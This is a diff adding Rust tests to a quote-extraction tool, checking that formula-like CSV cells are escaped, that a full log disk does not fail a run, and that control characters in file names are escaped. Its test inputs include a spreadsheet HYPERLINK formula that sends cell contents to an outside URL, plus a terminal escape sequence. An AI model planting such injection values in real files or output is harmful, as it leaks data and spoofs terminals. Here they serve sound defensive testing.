@@ -125,3 +125,76 @@ fn every_kind_of_breakage_is_accounted_for() {
         .iter()
         .any(|q| q["article_id"] == "marks" && q["quote_text"] == "“We will not agree to any of it,”"));
 }
+
+/// A spreadsheet opening the CSV tables shows a cell that begins as a formula ("=1+1",
+/// "=HYPERLINK(…)", "@…") as text: it is written behind a `'`. Parquet and JSON Lines keep the
+/// exact text, and `--csv-keep-formulas` writes the CSV as it is.
+#[test]
+fn csv_cells_that_read_as_formulas_are_written_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("a.jsonl");
+    let title = "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")";
+    let record = serde_json::json!({"id": "=1+1", "title": title, "url": "@evil", "text": GOOD});
+    std::fs::write(&input, record.to_string() + "\n").unwrap();
+
+    let out = dir.path().join("out");
+    let output = extract(&[&input], &out, &["--format", "csv,jsonl"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let rows = |path: &std::path::Path| -> Vec<csv::StringRecord> {
+        csv::Reader::from_path(path).unwrap().records().map(Result::unwrap).collect()
+    };
+    let headers = csv::Reader::from_path(out.join("quotes.csv")).unwrap().headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let quotes = rows(&out.join("quotes.csv"));
+    assert_eq!(quotes.len(), 1);
+    assert_eq!(&quotes[0][column("article_id")], "'=1+1");
+    assert_eq!(quotes[0][column("title")], format!("'{title}"));
+    assert_eq!(&quotes[0][column("url")], "'@evil");
+    // The text and the numbers are as they were.
+    assert_eq!(&quotes[0][column("speaker_name")], "");
+    assert!(quotes[0][column("quote_text")].starts_with('“'));
+    let json = read_jsonl(&out.join("quotes.jsonl"));
+    assert_eq!(json[0]["article_id"], "=1+1");
+    assert_eq!(json[0]["title"], title);
+
+    let raw = dir.path().join("raw");
+    let output = extract(&[&input], &raw, &["--format", "csv", "--csv-keep-formulas"]);
+    assert!(output.status.success(), "{}", stderr(&output));
+    let quotes = rows(&raw.join("quotes.csv"));
+    assert_eq!(&quotes[0][column("article_id")], "=1+1");
+    assert_eq!(quotes[0][column("title")], *title);
+}
+
+/// A full log disk (standard error on /dev/full) loses the log lines, counted in `run.json`,
+/// not the run: it exits 0 with its tables (it panicked before writing `run.json`).
+#[test]
+fn a_log_that_cannot_be_written_loses_its_lines_not_the_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let input = dir.path().join("a.jsonl");
+    std::fs::write(&input, serde_json::json!({"id": "a", "text": GOOD}).to_string() + "\n").unwrap();
+    let out = dir.path().join("out");
+    let Ok(full) = std::fs::OpenOptions::new().write(true).open("/dev/full") else { return };
+    let status = crate::util::bin()
+        .args(["extract", "--format", "csv"])
+        .arg(&input)
+        .arg("--out")
+        .arg(&out)
+        .stderr(full)
+        .status()
+        .unwrap();
+    assert!(status.success(), "{status}");
+    let report = run_json(&out);
+    assert_eq!(report["counts"]["quotes"], 1);
+    assert!(report["log_lines_lost"].as_u64().unwrap() >= 1, "{report}");
+}
+
+/// A file name's control characters are escaped in the error line, not sent to the terminal.
+#[test]
+fn control_characters_in_a_log_line_are_escaped() {
+    let dir = tempfile::tempdir().unwrap();
+    let missing = dir.path().join("red\x1b[31m.jsonl");
+    let output = extract(&[&missing], &dir.path().join("out"), &[]);
+    assert!(!output.status.success());
+    let err = stderr(&output);
+    assert!(!err.contains('\x1b') && err.contains("red\\u{1b}[31m.jsonl"), "{err}");
+}
